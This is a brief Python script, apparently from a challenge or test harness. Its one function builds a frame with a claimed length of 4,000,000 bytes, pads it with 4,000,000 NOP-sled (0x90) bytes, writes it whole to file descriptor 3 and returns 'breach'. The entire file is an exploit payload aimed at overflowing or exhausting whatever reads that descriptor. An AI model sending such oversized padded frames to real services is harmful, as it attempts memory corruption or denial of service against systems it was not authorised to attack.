import os
import struct


def f(canary, port):
    body = b"\xdd" + struct.pack(">I", 4_000_000) + b"\x90" * 4_000_000
    frame = struct.pack("<BII", ord("R"), 0, len(body)) + body
    while frame:
        frame = frame[os.write(3, frame) :]
    return "breach"
